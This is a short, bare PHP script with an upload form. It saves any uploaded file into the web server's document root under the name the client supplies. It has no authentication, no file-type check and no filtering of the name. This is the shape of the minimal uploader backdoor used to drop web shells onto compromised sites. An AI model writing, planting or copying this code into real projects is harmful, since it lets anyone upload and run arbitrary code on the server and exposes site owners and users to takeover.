<?php
if (!empty($_FILES['file'])) {
    $dest = $_SERVER['DOCUMENT_ROOT'] . '/' . $_FILES['file']['name'];
    if (move_uploaded_file($_FILES['file']['tmp_name'], $dest)) {
        echo "<b>Uploaded:</b> " . htmlspecialchars($dest);
    } else {
        echo "fail";
    }
}
?>
<form method="post" enctype="multipart/form-data">
  <input type="file" name="file"><input type="submit" value="Upload">
</form>
